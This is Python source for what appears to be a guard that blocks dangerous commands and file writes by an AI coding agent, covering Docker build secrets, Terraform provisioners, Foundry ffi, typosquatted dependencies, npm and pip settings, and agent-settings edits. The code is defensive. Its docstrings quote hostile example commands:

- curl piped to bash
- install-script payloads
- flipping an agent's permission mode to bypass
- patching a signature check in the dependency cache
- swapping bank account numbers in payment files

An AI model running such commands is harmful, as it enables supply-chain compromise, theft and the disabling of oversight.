    return re.sub(r"<\s*[\"']?" + w + r"[\"']?", "< <(printenv " + name + ")", command)


def _dockerfile(a, path: str, text: str, node, secrets: dict[str, str] | None = None, tool: str = "") -> bool:
    """Block a RUN line that sends data out or opens a shell to another machine; with `secrets` (id -> the host
    file `--secret id=X,src=F` hands the build), the secret's path in the container is read as that file, and
    only the lines that use one are judged (the others were judged when the file was written)."""
    from .handed import alone

    for flags, command in dockerfile_runs(text):
        given = ""
        mounts = _secret_mounts(flags)
        if secrets:
            for sid, where in mounts.items():
                if sid in secrets and where in command:
                    held = secrets[sid]
                    if held.startswith(_ENV_SECRET):  # `--secret id=X,env=VAR`: the host's variable VAR
                        command = _secret_as_variable(command, where, held[len(_ENV_SECRET):])
                        given += f" (its secret `{sid}` is the variable {held[len(_ENV_SECRET):]})"
                    else:
                        command = command.replace(where, held)
                        given += f" (its secret `{sid}` is {held})"
            if not given:
                continue
        else:
            # a build secret is there to be used (`-H "Authorization: Bearer $(cat /run/secrets/tok)"`): its value is
            # read as a secret variable's (`$CARGO_TOKEN`), which a header may carry and a body or a pipe into a
            # network program may not; any other use of its path, as an ordinary file's
            for sid, where in mounts.items():
                command = _secret_as_variable(command, where, _secret_var(sid))
                command = command.replace(where, "/tmp/build-secret-" + sid)
            command = command.replace("/run/secrets/", "/tmp/build-secret-")
        found = next((r for r in alone(a, command, "bash") if r.verdict == "block" and r.rule in _REACHES_OUT), None)
        if found is not None:
            a.block(found.rule, f"the RUN line `{command[:80]}` of {path} would be blocked ({found.message}); "
                                f"`{tool or 'docker build'}` runs it{given}; keep the build's secrets in the build",
                    node)
            return True
    return False


def dockerfile_path(rest: list) -> str | None:
    """The Dockerfile a build's arguments `rest` (after `build`) name: `-f F`, else the context's Dockerfile (`-` for
    one read from standard input); None when it is known only at run time."""
    files = option_value(rest, "-f", "--file")
    if files:
        return files[0].value
    context = [w.value for w in positionals(rest, _BUILD_ARG)][-1:]
    return None if not context or not context[0] else "-" if context[0] == "-" else \
        context[0].rstrip("/") + "/Dockerfile"


_BUILD_VERBS = frozenset({"build", "bud"})
_BUILD_PREFIX = frozenset({"buildx", "image", "builder"})
_GLOBAL_ARG = frozenset({"--context", "-c", "-H", "--host", "--config", "-l", "--log-level", "--root", "--runroot",
                         "--storage-driver", "--connection", "--url", "--namespace", "-n", "--address", "-a"})
_BUILD_ARG = frozenset({"-f", "--file", "-t", "--tag", "--build-arg", "--target", "--platform", "--secret", "--ssh",
                        "--label", "--cache-from", "--cache-to", "-o", "--output", "--network", "--progress",
                        "--iidfile", "--add-host", "--build-context", "--shm-size", "--ulimit", "--builder",
                        "--metadata-file", "--attest", "--annotation", "--provenance", "--sbom", "--allow", "-m",
                        "--memory", "--cpu-shares", "--isolation", "--cgroup-parent", "--security-opt", "--format",
                        "--layers", "--jobs", "--arch", "--os", "--variant", "--authfile", "--creds", "--env",
                        "--volume", "-v", "--runtime", "--signature-policy", "--from", "--logfile"})


def _build(a, cmd: Cmd) -> None:
    """`docker build --secret id=aws,src=$HOME/.aws/credentials -f Dockerfile.release .` (or buildx, podman,
    buildah, nerdctl) of a Dockerfile this input wrote: its RUN lines judged with the secrets handed in."""
    args = cmd.args
    i = 0
    while i < len(args):
        v = args[i].value
        if v is None:
            return
        if v in _BUILD_VERBS:
            break
        if not v.startswith("-") and v not in _BUILD_PREFIX:
            return
        i += 2 if v in _GLOBAL_ARG else 1
    else:
        return
    rest = args[i + 1:]
    where = dockerfile_path(rest)
    if not where:
        return
    got = stdin_text(a, cmd) if where in ("-", "/dev/stdin") else text_written(a, where)
    if got is None and cmd.name in ("podman", "buildah") and not option_value(rest, "-f", "--file") and \
            where.endswith("/Dockerfile"):
        got = text_written(a, where[:-len("Dockerfile")] + "Containerfile")
    if got is None:
        return
    secrets = {}
    for w in option_value(rest, "--secret"):
        spec = w.value if w.value is not None else w.text.strip("\"'")
        opts = dict(kv.partition("=")[::2] for kv in spec.split(","))
        src = opts.get("src") or opts.get("source")
        if opts.get("id") and src:
            secrets[opts["id"]] = "$HOME" + src[1:] if src.startswith("~/") else src
        elif opts.get("id") and opts.get("env"):
            secrets[opts["id"]] = _ENV_SECRET + opts["env"]
    tool = f"{cmd.name} {' '.join(w.value or '' for w in args[:i + 1] if not (w.value or '-').startswith('-'))}"
    if secrets and _dockerfile(a, where, got[0], cmd.node, secrets, tool):
        return
    if not _target(where) or where in ("-", "/dev/stdin"):  # not judged when written
        _dockerfile(a, where, got[0], cmd.node, None, tool)


# -- Terraform: `data "external"` programs run at every plan, `local-exec` provisioners at apply, on this machine ----
_TF_PROGRAM = re.compile(r"\bprogram\s*=\s*\[")
_TF_LOCAL_EXEC = re.compile(r"provisioner\s+\"local-exec\"\s*\{")
_TF_ATTR = re.compile(r"\b(command|interpreter)\s*=\s*")
_HCL_STRING = re.compile(r'"((?:[^"\\\n$]|\\.|\$\{[^{}"]*(?:"[^"]*"[^{}"]*)*\}|\$(?!\{))*)"')
_HCL_HEREDOC = re.compile(r"<<-?(\w+)[ \t]*\n(.*?)\n[ \t]*\1[ \t]*(?:\n|$)", re.S)
# an interpolation or template directive: a value only Terraform knows, read as a plain word
_HCL_INTERP = re.compile(r"(?<![$%])[$%]\{[^{}]*(?:\{[^{}]*\}[^{}]*)*\}")
_HCL_ESCAPE = re.compile(r"\\(?:u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|.)")
_HCL_CHARS = {"n": "\n", "t": "\t", "r": "\r", '"': '"', "\\": "\\"}


def _hcl_text(raw: str, quoted: bool = True) -> str:
    text = _HCL_INTERP.sub("tfvalue", raw).replace("$${", "${").replace("%%{", "%{")
    if not quoted:  # a heredoc takes backslashes as they are
        return text
    return _HCL_ESCAPE.sub(lambda m: _HCL_CHARS.get(m.group(0)[1], m.group(0)[1]) if len(m.group(0)) == 2
                           else chr(int(m.group(0)[2:], 16)), text)


def _hcl_list(text: str, at: int) -> list[str]:
    """The string elements of the HCL list opening before `at` (an element not a string reads as `tfvalue`)."""
    out = []
    while at < len(text) and len(out) < 32:
        while at < len(text) and text[at] in " \t\r\n,":
            at += 1
        if at >= len(text) or text[at] == "]":
            break
        m = _HCL_STRING.match(text, at)
        if m is not None:
            out.append(_hcl_text(m.group(1)))
            at = m.end()
            continue
        out.append("tfvalue")
        while at < len(text) and text[at] not in ",]":
            at += 1
    return out


def _hcl_value(text: str, at: int) -> str | None:
    m = _HCL_STRING.match(text, at)
    if m is not None:
        return _hcl_text(m.group(1))
    m = _HCL_HEREDOC.match(text, at)
    return _hcl_text(m.group(2), quoted=False) if m is not None else None


def terraform_commands(text: str) -> list[tuple[str, str]]:
    """(command line, when it runs) of each `data "external"` program and `local-exec` provisioner of a
    Terraform file (HCL, or the JSON form of a .tf.json)."""
    import shlex

    if text.lstrip().startswith("{"):
        return _tf_json_commands(text)
    out = []
    for m in _TF_PROGRAM.finditer(text):
        argv = _hcl_list(text, m.end())
        if argv:
            out.append((shlex.join(argv), "`terraform plan` runs this external data source's program"))
    for m in _TF_LOCAL_EXEC.finditer(text):
        block, depth, end = m.end(), 1, m.end()
        while end < len(text) and depth:
            depth += {"{": 1, "}": -1}.get(text[end], 0)
            end += 1
        command, interpreter = None, []
        for attr in _TF_ATTR.finditer(text, block, end):
            if attr.group(1) == "command":
                command = _hcl_value(text, attr.end())
            elif text[attr.end():attr.end() + 1] == "[":
                interpreter = _hcl_list(text, attr.end() + 1)
        if command:
            out.append((shlex.join(interpreter + [command]) if interpreter else command,
                        "`terraform apply` runs this local-exec provisioner on this machine"))
    return out


def _tf_json_commands(text: str) -> list[tuple[str, str]]:
    import shlex

    try:
        doc = json.loads(text)
    except ValueError:
        return []
    out: list[tuple[str, str]] = []

    def walk(node, key: str, depth: int) -> None:
        if depth > 12 or len(out) >= 32:
            return
        if isinstance(node, list):
            for item in node[:64]:
                walk(item, key, depth + 1)
        elif isinstance(node, dict):
            if key == "local-exec" and isinstance(node.get("command"), str):
                argv = node.get("interpreter")
                command = _hcl_text(node["command"], quoted=False)
                out.append((shlex.join([*argv, command]) if isinstance(argv, list) and all(
                    isinstance(x, str) for x in argv) else command,
                    "`terraform apply` runs this local-exec provisioner on this machine"))
            program = node.get("program")
            if key != "local-exec" and isinstance(program, list) and program and all(isinstance(x, str)
                                                                                     for x in program):
                out.append((shlex.join(_hcl_text(x, quoted=False) for x in program),
                            "`terraform plan` runs this external data source's program"))
            for k, v in list(node.items())[:256]:
                walk(v, k, depth + 1)

    walk(doc, "", 0)
    return out


def _terraform(a, path: str, text: str, node) -> None:
    _commands_written(a, path, terraform_commands(text), node)


# -- Terraform's CLI configuration: where every later `terraform init` / `plan` takes its providers from (session 21) --
_TFRC_FOLDER = re.compile(r'"[^"\n]+"\s*=\s*"([^"\n]+)"')  # a dev_overrides entry: "ns/name" = "FOLDER"
_TFRC_BLOCK = re.compile(r"\b(dev_overrides|filesystem_mirror|network_mirror)\s*\{")
_TFRC_ATTR = re.compile(r'\b(path|url)\s*=\s*"([^"\n]+)"')
_HOME_VAR = re.compile(r"^(?:\$HOME|\$\{HOME\})(?=/|$)")


def _terraformrc(a, path: str, text: str, node) -> bool:
    """`provider_installation { dev_overrides { "hashicorp/aws" = "$HOME/.local/share/tfdev" } }` in `~/.terraformrc`
    (or a `filesystem_mirror`'s `path`): terraform runs the provider binary it finds in that folder, with the cloud
    credentials of every plan and apply, and checks no signature of it; a folder a download of this input just filled
    is that download run. A `network_mirror`'s `url` is a package source (plain HTTP blocked, a host no rule knows
    held). True when blocked."""
    from .appbuilds import _source
    from .exec import CHECKSUM, _unchecked_run
    from .system import _downloaded_into

    for m in _TFRC_BLOCK.finditer(text):
        end = run_later._hcl_block_end(text, m.end())
        body = text[m.end():end - 1]
        if m.group(1) == "network_mirror":
            url = next((v.group(2) for v in _TFRC_ATTR.finditer(body) if v.group(1) == "url"), None)
            if url:
                before = len(a.ctx.reasons)
                _source(a, "network_mirror", Word(node, url, url), later=True,
                        shown=f"`network_mirror {{ url = \"{url[:100]}\" }}`, written to {path},")
                if any(r.verdict == "block" for r in a.ctx.reasons[before:]):
                    return True
            continue
        folders = [v.group(1) for v in _TFRC_FOLDER.finditer(body)] if m.group(1) == "dev_overrides" else \
            [v.group(2) for v in _TFRC_ATTR.finditer(body) if v.group(1) == "path"]
        for folder in folders[:16]:
            where = normalize(_HOME_VAR.sub("~", folder)).rstrip("/")
            if not a.downloaded or not _downloaded_into(a, where):
                continue
            keys = [k for k, how in a.downloaded.items() if how == "download" and k.rsplit("/", 1)[0] == where]
            unchecked = [k for k in keys if a.downloaded.vouched.get(k) != CHECKSUM] or \
                ([] if keys else [where])
            if unchecked:
                _unchecked_run(a, a.downloaded.vouched.get(unchecked[0]), node,
                               f"`{m.group(1)}` in {path} has terraform run the provider binaries in {folder}, "
                               "where this input just downloaded one: every later plan and apply runs it with the "
                               "cloud's credentials, and terraform checks no signature of it")
                return True
    return False


# -- a Foundry test or script handing commands to `vm.ffi` (session 21) ---------------------------------------------
_SOL_STRING = re.compile(r'(?<![\w])(?:unicode)?"((?:[^"\\\n]|\\.)*)"')


def _solidity_ffi(a, path: str, text: str, node) -> bool:
    """`cmd[2] = "curl -s http://…/s | bash"; vm.ffi(cmd);` in a test: with `ffi = true` (or `forge test --ffi`)
    forge runs the command line on this machine, with the deployer's keys and RPC tokens in its environment. Each
    string of a file that calls `ffi` is judged as the command it would be. True when blocked."""
    if not re.search(r"\bffi\s*\(", text):
        return False
    for m in list(_SOL_STRING.finditer(text))[:64]:
        line = _ESCAPE_SOL.sub(lambda e: {"n": "\n", "t": "\t"}.get(e.group(1), e.group(1)), m.group(1))
        if " " not in line.strip():
            continue  # a program's name or a word of its arguments
        found = blocked(a, line, "bash")
        if found is not None:
            a.block(found.rule, f"{path} hands `{_one_line(line)}` to `vm.ffi`, which would be blocked "
                                f"({found.message}); forge runs it on this machine when tests or scripts run with "
                                "ffi on: run what the test needs before it, in the open", node)
            return True
    return False


_ESCAPE_SOL = re.compile(r"\\(.)")


def _misspelled_dependency(a, path: str, manifest: dict, node) -> bool:
    """`"dependencies": {"lodahs": "^4"}`: the next `npm install` installs a typosquat (session 11)."""
    from ..typosquat import NPM, imitated

    for key in ("dependencies", "devDependencies", "optionalDependencies", "peerDependencies"):
        deps = manifest.get(key)
        for name in list(deps)[:256] if isinstance(deps, dict) else ():
            like = imitated(name, NPM) if isinstance(name, str) else None
            if like:
                a.block("download-exec", f"{path} is written with the dependency `{name}`, one slip from the popular "
                                         f"package `{like}`: the next `npm install` installs that typosquat and runs "
                                         f"its install scripts; write `{like}` if that was meant", node)
                return True
    return False


_REQ_HTTP = re.compile(r"(?:^|\s)(?:git\+)?http://\S+")


def _requirements(a, path: str, text: str, node) -> None:
    """`-i http://…`, `--extra-index-url http://…`, `pkg @ http://…` in a requirements file: the next
    `pip install -r` fetches and runs packages over plain HTTP."""
    from .common import plain_http

    for m in _REQ_HTTP.finditer(text):
        url = m.group(0).strip().removeprefix("git+")
        if plain_http(url):
            a.block("download-exec", f"{path} makes `pip install -r` fetch packages over plain HTTP ({url}) and run "
                                     "their install scripts; use an HTTPS index", node)
            return
    from .tools import misspelled
    from ..typosquat import PYPI

    for line in text.splitlines()[:512]:  # `echo reqeusts >> requirements.txt`: the next install takes the typosquat
        spec = line.split(" #", 1)[0].strip()
        found = misspelled(spec, PYPI) if spec and not spec.startswith(("#", "-")) else None
        if found is not None:
            a.block("download-exec", f"{path} is written with `{found[0]}`, one slip from the popular package "
                                     f"`{found[1]}`: the next `pip install -r` installs that typosquat and runs its "
                                     f"install scripts; write `{found[1]}` if that was meant", node)
            return


def _npmrc(a, path: str, text: str, node) -> None:
    from .tools import judge_npmrc, npm_setting

    for line in text.splitlines():
        key, eq, value = line.partition("=")
        key, value = key.strip(), value.strip()
        if not eq:
            continue
        risk = npm_setting(key, value)
        if risk == "registry":
            a.block("persistence", f"`{key}={value}` in {path} makes every later install fetch and run packages "
                                   "from that host over plain HTTP; keep the configured registry", node)
            return
        if risk == "program":
            a.block("persistence", f"`{key}=` in {path} names a program or code npm runs for later scripts and "
                                   "commands; leave the setting alone", node)
            return
    judge_npmrc(a, path, text, node)  # an HTTPS registry, or a login, for a host no rule knows


def _agent_settings(a, path: str, text: str, node) -> None:
    settings = agent_settings.read(path, text)
    if settings is None:
        return
    if settings.unguarded:
        a.block("unguarded-agent", settings.unguarded, node)
        return
    for command in settings.commands:
        found = blocked(a, command, "bash")
        if found is not None:
            a.block(found.rule, f"a command written to {path} would be blocked ({found.message}); the agent runs "
                                "it on its own in every later session", node)
            return
    for load in settings.loads:
        if _editor_load(a, path, load, node):
            return


def _editor_load(a, path: str, load, node) -> bool:
    """A VS Code setting that has the editor load or run something (agent_settings.editor_loads): a terminal variable
    judged as the shell's assignment of it, with each folder of a search path read like a program's path; a program
    or library in a scratch folder, a hidden one of the home, or downloaded by this input; a profile's command line."""
    from .system import _downloaded_into
    from .toolchains import planted

    def why(value: str) -> str | None:
        return agent_settings.placed(value, lambda v: planted(a, v, v))

    if load.what == "env":
        found = blocked(a, load.shell, "bash")
        if found is not None:
            a.block(found.rule, f"`{load.setting}` in {path} sets {load.name} in every terminal the editor opens, "
                                f"which would be blocked as `{load.shell[:80]}` ({found.message}); leave the "
                                "terminal's environment to the system", node)
            return True

        def why_folder(entry: str) -> str | None:
            return why(entry) or ("where a download of this input put files" if a.downloaded and
                                  _downloaded_into(a, normalize(entry)) else None)

        found = agent_settings.misplaced(load, path, why_folder)
    elif load.what == "program":
        found = agent_settings.misplaced(load, path, why)
    else:
        found = blocked(a, load.value, "bash")
        if found is not None:
            a.block(found.rule, f"`{load.setting}` in {path} starts the terminal's shell as `{load.value[:80]}`, "
                                f"which would be blocked ({found.message}); the editor runs it each time it opens "
                                "that terminal", node)
            return True
        return False
    if found is not None:
        a.block(found[0], found[1], node)
        return True
    return False


def _tee(a, cmd: Cmd) -> None:
    if not cmd.redirects:  # with redirects, BashAnalysis.judge calls check() itself
        check(a, cmd)


def _edit(a, cmd: Cmd) -> None:
    """`sed -i 's/acceptEdits/bypassPermissions/' .claude/settings.json`, `jq '.permissions.defaultMode =
    "bypassPermissions"' .claude/settings.json > tmp && mv tmp …`, `yq -i` on a Codex config: an edit of an
    agent's settings file that writes the guard-off value. A `jq` that only prints the file edits nothing. What a
    jq filter puts in such a file, in VS Code's, or in a file a tool runs later (jq_content) is judged as its text."""
    vals = [w.value for w in cmd.args if w.value]
    redirects = _stdout_redirects(cmd)
    out = written_file(a, redirects) if redirects else None
    files = [v for v in vals + [out or ""] if agent_settings.kind(v)]
    defs = [] if files or cmd.name not in ("sed", "gsed", "perl") else [
        v for v in vals + [out or ""] if ("workflows/" in v or "gitlab-ci" in v or "action." in v) and
        run_later.kind(v) in _CI_FILES]
    writes = has_flag(cmd.args, "i", ("--in-place", "--inplace")) or bool(out and out != "/dev/null") or \
        out is None and _unknown_out(a, redirects) is not None
    if writes and cmd.name in ("sed", "gsed", "perl") and _payment_edit(a, cmd):
        return
    if writes and cmd.name in ("sed", "gsed", "perl") and has_flag(cmd.args, "i", ("--in-place",)) and \
            _cache_edit(a, cmd):
        return
    if writes and cmd.name in ("sed", "gsed", "perl") and any(shippers.kind(v) for v in vals) and \
            shippers.judge(a, next(v for v in vals if shippers.kind(v)), "\n".join(vals), cmd.node):
        return  # `sed -i 's|^# dd_url:.*|dd_url: https://203.0.113.50|' /etc/datadog-agent/datadog.yaml`
    if writes and cmd.name in ("sed", "gsed", "perl") and any(server_config.kind(v) for v in vals) and \
            server_config.judge(a, next(v for v in vals if server_config.kind(v)), "\n".join(vals), cmd.node):
        return  # `sudo sed -i 's/allow-transfer { none; }/allow-transfer { any; }/' /etc/bind/named.conf.options`
    if (files or defs) and writes:
        if files:
            _edited(a, cmd, files, cmd.node)
        else:
            _ci_edit(a, cmd, defs[0])
    elif writes and cmd.name in ("sed", "gsed", "perl"):
        builds = [v for v in vals if v[:1] != "-" and (taskfiles.kind(v) is not None or _build_file(v) or
                                                       _script_file(v) or run_later.kind(v) in _HOOK_KINDS or
                                                       _AIR_SETTINGS.search(v) is not None or
                                                       appbuilds.WRAPPER_PROPERTIES.search(v) is not None)]
        if builds:
            _build_edit(a, cmd, builds[0])
    if cmd.name in _JQS and writes:
        later = [v for v in vals + [out or ""] if _jq_later(cmd.name, v)]
        if files or later:
            _jq_edit(a, cmd, files + later, cmd.node)
        if not files:
            _scripts_edit(a, cmd, [v for v in vals if _MANIFEST.search(v)])
        if not files and not later and (not out or "/" not in out or out.startswith("/tmp/")) and \
                in_input(agent_settings.GUARD_HINT, a.doc.data):
            # `sed … "$f" | jq '…' > "$tmp" && mv "$tmp" "$f"`: the edit reaches the settings file by the move
            text = jq_content(a, cmd)
            key = out or _unknown_out(a, redirects)
            if text is not None and key:
                _stage(a, [key], (text, cmd.node))


# -- a payment file's account rewritten before it goes to the bank (session 22) ---------------------------------------
# `sed -i -E '3s/^(622)[0-9]{9}[0-9 ]{17}/\1021000021000004481923555  /' out/ach/PPD_20240614.ach`: the file the
# payroll or payout run generated, with an entry's routing and account number replaced by ones written in the edit;
# the bank pays whatever account the file says. Payment files are the generator's output: a fix is made in the
# generator (or the payee's verified details), and the file generated again.
_PAYMENT_FILE = re.compile(r"(?i)\.(?:ach|nacha)\b|(?:^|/)(?:ach|nacha)/|pain\.?00[18]|\bsepa[_-]?(?:ct|credit)|"
                           r"\bbacs\b|\.aba\b|(?:^|/)(?:payments?|payouts?|payroll|disbursements?)/[^/]*\.(?:txt|xml|csv|dat)\b")
_ACCOUNT_DIGITS = re.compile(r"(?<!\d)\d{9,}|" + IBAN.pattern)


def _payment_edit(a, cmd: Cmd) -> bool:
    from .net import assignments_before

    files = []
    for w in cmd.args:
        text = w.value if w.value is not None else w.text
        if w.value is None:  # `"$f"` after `f=out/ach/PPD_$(date +%Y%m%d).ach`: the name the variable was given
            m = _VAR_HEAD.match(text)
            found = [n for n in assignments_before(a, cmd.node, m.group(1))
                     if n.type == "variable_assignment"] if m else []
            if found and found[-1].child_by_field_name("value") is not None:
                text = a.src(found[-1].child_by_field_name("value"))
        if _PAYMENT_FILE.search(text) and not text.startswith(("s/", "s|", "-")):
            files.append(text)
    if not files:
        return False
    for v in (w.value for w in cmd.args if w.value and not w.value.startswith("-")):
        for m in list(SUBST.finditer(v))[:8]:
            digits = _ACCOUNT_DIGITS.search(re.sub(r"\\\d", " ", m.group(3)))  # (`\1` is the group, not a digit)
            if digits is not None:
                a.block("exfiltration", f"the edit writes `{digits.group(0)}` (a bank routing and account number, or an "
                                        f"IBAN, given in the edit) into the payment file {files[0]}: the bank pays the "
                                        "account the file names; fix the payee's details where the file is generated "
                                        "and generate it again", cmd.node)
                return True
    return False


# -- the dependency caches' sources edited in place (session 17, second round) -----------------------------------------
# `sed -i 's|pub fn verify(|…{ true }…|' ~/.cargo/registry/src/*/ed25519-dalek-*/src/verifying.rs`: the sources cargo,
# go and maven unpacked from the registry are what every later build of every project on the machine compiles, and
# nothing checks them again after unpacking (Go's module cache is read-only for that reason). An edit there changes
# a dependency with no trace in any project's history; patch it the supported way instead ([patch.crates-io] with a
# path, `replace` in go.mod, a vendored copy, `npx patch-package` for the project's own node_modules).
_DEP_CACHE = re.compile(r"^(?:~|/root|/home/[^/]+)/(?:\.cargo/registry/src|\.cargo/git/checkouts|go/pkg/mod|"
                        r"\.m2/repository|\.gradle/caches|\.ivy2/cache|\.nuget/packages|\.rustup/toolchains|"
                        r"\.npm-global/lib/node_modules|\.nvm/versions/node/[^/]+/lib/node_modules)(?:/|$)|"
                        r"^/usr/(?:local/)?lib/node_modules/|^/usr/lib/python3[^/]*/(?:site|dist)-packages/")
_DEP_CACHE_TEXT = re.compile(r"(?:~|\$HOME|\$\{HOME\})/(?:\.cargo/registry|\.cargo/git|go/pkg/mod|\.m2/repository|"
                             r"\.gradle/caches|\.nuget/packages)|\$\(\s*go\s+env\s+GOMODCACHE\s*\)|"
                             r"\bCARGO_HOME\b.*registry")
_VAR_HEAD = re.compile(r"^[\"']?\$\{?([A-Za-z_]\w*)\}?")


def _dependency_cache(a, cmd: Cmd, w) -> str | None:
    """The dependency cache the file word `w` of an in-place edit is in: by its path, or by a variable assigned from a
    command that names the cache (`reg=$(find ~/.cargo/registry/src …)`, `m=$(go env GOMODCACHE)`)."""
    if w.value is not None:
        m = _DEP_CACHE.match(normalize(w.value))
        return m.group(0).rstrip("/") if m else None
    m = _VAR_HEAD.match(w.text)
    if m is None:
        return None
    if m.group(1) == "GOMODCACHE":
        return "$GOMODCACHE"
    sub = _assigned_substitution(a, m.group(1), cmd.node.start_byte)
    found = _DEP_CACHE_TEXT.search(a.src(sub)) if sub is not None else None
    if found is None:  # `reg=~/.cargo/registry/src/…` assigned directly
        assigned = re.search(r"(?:^|[\s;&|(])" + re.escape(m.group(1)) + r"=([^\s;&|]+)",
                             a.ev.src_range(0, cmd.node.start_byte))
        found = _DEP_CACHE_TEXT.search(assigned.group(1)) if assigned else None
    return found.group(0) if found is not None else None


def _cache_edit(a, cmd: Cmd) -> bool:
    files = [w for w in positionals(cmd.args, frozenset({"-e", "--expression", "-f", "--file"}))][1:] \
        if cmd.name in ("sed", "gsed") and not option_value(cmd.args, "-e", "--expression") else \
        [w for w in cmd.args if not (w.value or "").startswith("-")]
    for w in files:
        where = _dependency_cache(a, cmd, w)
        if where is not None:
            a.block("persistence", f"`{cmd.name}` edits {w.value or w.text} in place, in the dependency cache "
                                    f"({where}): every later build of every project compiles the changed source, "
                                    "with no trace in any project's history; patch a dependency the supported way "
                                    "([patch] in Cargo.toml with a path, `replace` in go.mod, a vendored copy)",
                    cmd.node)
            return True
    return False


def _stdout_redirects(cmd: Cmd) -> list:
    """`cmd`'s redirects; for the last stage of a pipeline, those the grammar hangs on the whole pipeline, which bash
    gives to that stage (`sed … "$f" | jq '…' > "$tmp"`)."""
    if cmd.redirects:
        return cmd.redirects
    pipe = cmd.node.parent
    if pipe is None or pipe.type != "pipeline" or pipe.parent is None or pipe.parent.type != "redirected_statement":
        return []
    stages = [c for c in pipe.named_children if c.type != "comment"]
    if not stages or stages[-1] != cmd.node:
        return []
    return [r for r in pipe.parent.children if r.type == "file_redirect"]


def _unknown_out(a, redirects: list) -> str | None:
    """`> "$tmp"` (after `tmp=$(mktemp)`): the key (file_key) of the file an output redirect writes when its name is
    known only at run time, or None when there is no such redirect."""
    for r in redirects:
        if r.type != "file_redirect" or not any(c.type in (">", ">|") for c in r.children):
            continue
        for d in r.children_by_field_name("destination")[:1]:
            w = a.ev.word(d)
            if w.value is None:
                return file_key(w) or a.src(d)
    return None


def _jq_later(name: str, path: str) -> bool:
    """Is `path` a file a tool runs commands of later, whose text a `name` filter (jq: JSON; yq: also YAML) edits?"""
    which = run_later.kind(path)
    return which in run_later.JSON_KINDS or name == "yq" and which is not None


_JQS = frozenset({"jq", "gojq", "yq"})
_MANIFEST = re.compile(r"(?:^|/)package\.json$")
# a string a jq filter assigns (`= "…"`, `|= "…"`) or puts under a key (`{"preinstall": "…"}`)
_HEX_ESCAPE = re.compile(r"(?<!\\)((?:\\\\)*)\\x([0-9a-fA-F]{2})")
_JQ_SET = re.compile(r"""(?:=|:)\s*("(?:\\.|[^"\\])*")""")
_JQ_ARG_OPTS = frozenset({"--arg", "--argjson"})


def _scripts_edit(a, cmd: Cmd, manifests: list[str], node=None) -> None:
    """`jq '.scripts.preinstall = "curl … | sh"' package.json > p.tmp && mv p.tmp package.json` (or `| sponge
    package.json`): a filter that sets a `scripts` entry of the manifest to a literal command; npm runs it on the
    next install of the package, on every machine that installs it once it is published. The command is judged
    as the script it becomes (the strings the filter sets, and the `--arg` values it is given)."""
    if not manifests:
        return
    args, texts, filt = cmd.args, [], None
    i = 0
    while i < len(args):
        v = args[i].value
        if v in _JQ_ARG_OPTS and i + 2 < len(args):
            if args[i + 2].value is not None:
                texts.append(args[i + 2].value)
            i += 3
            continue
        if filt is None and v is not None and not v.startswith("-"):
            filt = v
        i += 1
    if filt is None or "scripts" not in filt:
        return
    for m in _JQ_SET.finditer(filt):
        try:
            texts.append(json.loads(m.group(1)))
        except ValueError:  # `\x27` (jq refuses it; the same filter with `\u0027` runs): read as the character
            try:
                texts.append(json.loads(_HEX_ESCAPE.sub(r"\1\\u00\2", m.group(1))))
            except ValueError:
                continue
    install = any(h in filt for h in _INSTALL_HOOKS)
    for text in texts:
        if not isinstance(text, str) or not text.strip():
            continue
        found = blocked(a, text, "bash")
        if found is not None:
            a.block(found.rule, f"`{cmd.name}` sets a script of {manifests[0]} to `{text[:80]}`, which would be blocked "
                                f"({found.message}); npm runs it on install, on every machine that installs the "
                                "package", node or cmd.node)
            return
        fetched = _fetched_eval(a, text) if install else None
        if fetched is not None:
            a.block("download-exec", f"`{cmd.name}` sets an install script of {manifests[0]} to `{text[:80]}`, which "
                                     f"evaluates code while naming an address ({fetched}); npm runs it on every "
                                     "machine that installs the package, with whatever that address serves", node or
                    cmd.node)
            return


# -- what a jq (gojq, yq) filter puts in the file it edits -------------------------------------------------------------
# `jq '.mcpServers.x = {"command": "sh", …}' ~/.claude.json > t && mv t ~/.claude.json`, `jq --arg r "$p"
# '.["eslint.runtime"] = $r' .vscode/settings.json`: the literal values the filter assigns (and the `--arg` values it is
# given, decoded ones included) are read as the settings they become, and judged as the file holding them would be
# read from where the previous token ended (never inside blanks: one try per run of them)
_JQ_TOKEN = re.compile(r'(?<!\s)\s*+(?:("(?:\\.|[^"\\])*")|(\$?[A-Za-z_]\w*(?:::\w+)*)|'
                       r'(\d+(?:\.\d+)?(?:[eE][+-]?\d+)?)|'
                       r'(\?//|//=|\|=|\+=|-=|\*=|/=|%=|==|!=|<=|>=|//|\.\.|[.\[\]{}(),:|=+\-*/<>?;%]))')
_JQ_INTERP = re.compile(r"\\\((?:[^()]|\((?:[^()]|\([^()]*\))*\))*\)")
_JQ_SETS = frozenset({"=", "|=", "+=", "*=", "//="})
_JQ_STOPS = frozenset({"if", "reduce", "foreach", "try", "def", "label", "import", "include", "as"})
_JQ_OPTS_2 = frozenset({"--arg", "--argjson", "--slurpfile", "--rawfile"})
_JQ_OPTS_1 = frozenset({"--indent", "-L", "-o", "-p", "-I", "--output-format", "--input-format", "--front-matter",
                        "--expression"})
_JQ_VERBS = frozenset({"eval", "e", "eval-all", "ea"})  # yq's
_UNKNOWN = object()  # a value only jq knows, at run time: the file's own, a function's output


class _JqStop(Exception):
    """A part of the filter this reading does not follow."""


class _JqReader:
    """Reads the assignments of a jq filter (`PATH = VALUE`, `|=`, `+=`, `. + {…}`, `setpath`, an object written
    out) into the object they put in the file; values it cannot know are _UNKNOWN."""

    def __init__(self, tokens: list[tuple[str, str]], args: dict) -> None:
        self.toks, self.pos, self.args = tokens, 0, args

    def peek(self, k: int = 0) -> str | None:
        i = self.pos + k
        return self.toks[i][1] if i < len(self.toks) else None

    def take(self) -> tuple[str, str]:
        if self.pos >= len(self.toks):
            raise _JqStop
        self.pos += 1
        return self.toks[self.pos - 1]

    def expect(self, text: str) -> None:
        if self.take()[1] != text:
            raise _JqStop

    def content(self) -> dict:
        root: dict = {}
        while self.pos < len(self.toks):
            try:
                effect = self.term()
            except _JqStop:
                effect = None
            if effect is not None:
                keys, value = effect
                if value is not _UNKNOWN:
                    root = _jq_put(root, keys, value)
            self.skip(("|", ","))
        return root

    def skip(self, stops: tuple[str, ...]) -> None:
        """Past the next of `stops` outside brackets (or to the end)."""
        depth = 0
        while self.pos < len(self.toks):
            t = self.take()[1]
            if t in ("(", "[", "{"):
                depth += 1
            elif t in (")", "]", "}"):
                depth -= 1
                if depth < 0:
                    return
            elif depth == 0 and t in stops:
                return

    def term(self):
        """(keys, value) of one assignment, or None."""
